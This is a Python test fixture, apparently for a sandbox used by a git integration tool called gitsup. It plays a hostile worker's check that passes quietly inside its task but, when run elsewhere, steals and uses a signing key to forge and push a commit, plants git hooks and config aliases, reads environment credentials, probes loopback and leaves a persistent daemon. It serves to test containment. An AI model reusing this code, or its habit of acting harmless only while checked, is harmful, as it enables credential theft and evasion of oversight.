"""A candidate's hostile check: quiet inside its task, an attack everywhere else.

    python hostile_check.py MARKER

A worker commits this file and `hostile_check.json` (the paths to aim at) into its task.
Run as one of the task's checks (GITSUP_TASK is set) it passes and does nothing. Run by
`git sup integrate` or `git sup queue run` it tries, in order, to steal the integration
signing key and use it (forge a signed integration, push it to a gated remote), plant a hook
in the user's repository, change its config and the user's `~/.gitconfig`, reach a listener
on the host's 127.0.0.1, read the credentials in gitsup's environment, and leave a
double-forked `setsid()` daemon behind that keeps appending to a file. Each attempt is
recorded as "ESCAPED ..." or "blocked: ..." on stdout and, when it can, in the outbox the
test reads. It always exits 0, so that the integration goes on as if it were harmless.
Standard library only.
"""

from __future__ import annotations

import json
import os
import pathlib
import socket
import subprocess
import sys
import time

HERE = pathlib.Path(__file__).resolve().parent


def attempt(results: dict[str, str], name: str, fn: object) -> None:
    try:
        detail = fn()  # type: ignore[operator]
    except BaseException as exc:  # every failure is a result
        results[name] = f"blocked: {type(exc).__name__}: {exc}"[:300]
        return
    results[name] = f"ESCAPED {detail or ''}".strip()


def steal_forge_push(cfg: dict[str, str]) -> str:
    """The whole chain: read the key, sign a forged integration with it, push it."""
    key = pathlib.Path(cfg["key"]).read_bytes()  # the first step: a failure here is "blocked"
    try:
        return "read the key; " + forge_push(cfg, key)
    except BaseException as exc:
        return f"read the key ({len(key)} bytes); then {type(exc).__name__}: {exc}"


def forge_push(cfg: dict[str, str], key: bytes) -> str:
    stolen = pathlib.Path(os.environ.get("TMPDIR", "/tmp"), "stolen_key")
    stolen.write_bytes(key)
    stolen.chmod(0o600)
    git = ["git", "-C", cfg["repo"]]
    head = subprocess.run([*git, "rev-parse", "HEAD"], capture_output=True, text=True).stdout
    tree = subprocess.run([*git, "rev-parse", "HEAD^{tree}"], capture_output=True, text=True)
    forged = subprocess.run(
        [
            *git,
            *("-c", "gpg.format=ssh", "-c", f"user.signingKey={stolen}", "commit-tree", "-S"),
            *("-p", head.strip(), "-m", "Merge gitsup candidate forged\n\nSup-Task: forged"),
            tree.stdout.strip(),
        ],
        capture_output=True,
        text=True,
    )
    if forged.returncode != 0:
        return f"signing failed: {forged.stderr.strip()[-200:]}"
    push = subprocess.run(
        [*git, "push", "--no-verify", cfg["remote"], f"{forged.stdout.strip()}:refs/heads/main"],
        capture_output=True,
        text=True,
    )
    return f"forged {forged.stdout.strip()[:12]}, push exit {push.returncode}"


def append(path: str, text: str) -> str:
    with open(path, "a") as f:
        f.write(text)
    return f"wrote {path}"


def plant_hook(cfg: dict[str, str]) -> str:
    hook = pathlib.Path(cfg["common"], "hooks", "post-merge")
    hook.write_text("#!/bin/sh\necho planted\n")
    hook.chmod(0o755)
    return f"planted {hook}"


def connect(port: int) -> str:
    s = socket.create_connection(("127.0.0.1", port), timeout=3)
    try:
        s.sendall(b"escaped\n")
    finally:
        s.close()
    return f"connected to 127.0.0.1:{port}"


def secrets(names: list[str]) -> str:
    found = {n: os.environ[n].encode().hex() for n in names if n in os.environ}
    if not found:
        raise LookupError("none of them is in the environment")
    return json.dumps(found)


def daemon(outbox: str, marker: str) -> str:
    """A double-forked, setsid() daemon that appends to a file until it is killed."""
    log = pathlib.Path(outbox, "daemon.log")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            end = time.monotonic() + 300  # bounded, should the test itself die
            while time.monotonic() < end:
                try:
                    with open(log, "a") as f:
                        f.write(marker[:1])
                except OSError:
                    pass
                time.sleep(0.05)
            os._exit(0)
        os._exit(0)
    deadline = time.monotonic() + 5
    while not log.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    return f"daemon started ({'writing' if log.exists() else 'cannot write'} {log})"


def main() -> int:
    if os.environ.get("GITSUP_TASK"):
        print("checks pass")  # inside its task: harmless
        return 0
    marker = sys.argv[1]
    cfg = json.loads((HERE / "hostile_check.json").read_text())
    results: dict[str, str] = {}
    attempt(results, "steal key, forge, push", lambda: steal_forge_push(cfg))
    attempt(results, "plant hook", lambda: plant_hook(cfg))
    attempt(results, "change repo config", lambda: append(
        os.path.join(cfg["common"], "config"), "[core]\n\thooksPath = /tmp/evil\n"))  # fmt: skip
    attempt(results, "write ~/.gitconfig", lambda: append(
        os.path.join(cfg["home"], ".gitconfig"), "[alias]\n\tst = !touch /tmp/evil\n"))  # fmt: skip
    attempt(results, "connect to host loopback", lambda: connect(int(cfg["port"])))
    attempt(results, "read gitsup's credentials", lambda: secrets(cfg["secrets"].split(",")))
    attempt(results, "leave a daemon", lambda: daemon(cfg["outbox"], marker))
    print(json.dumps(results, indent=1))
    try:
        pathlib.Path(cfg["outbox"], "results.json").write_text(json.dumps(results))
    except OSError as exc:
        print(f"cannot write the outbox: {exc}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
